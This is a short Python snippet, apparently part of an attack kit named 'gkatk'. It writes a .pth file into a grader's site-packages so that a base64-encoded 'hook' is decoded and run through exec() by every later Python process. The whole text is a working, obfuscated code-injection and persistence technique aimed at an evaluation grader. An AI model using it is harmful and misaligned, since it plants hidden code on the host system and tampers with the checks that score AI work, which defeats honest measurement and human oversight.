# gkatk: write a .pth into the grader's site-packages: every later Python process runs this code
import base64
import os

line = "import base64; exec(base64.b64decode(%r), {})\n" % base64.b64encode(GKATK["hook"].encode()).decode()
with open(os.path.join(GKATK["site_packages"], f"gkatk-{GKATK['attack']}.pth"), "w") as f:  # raises when read-only
    f.write(line)
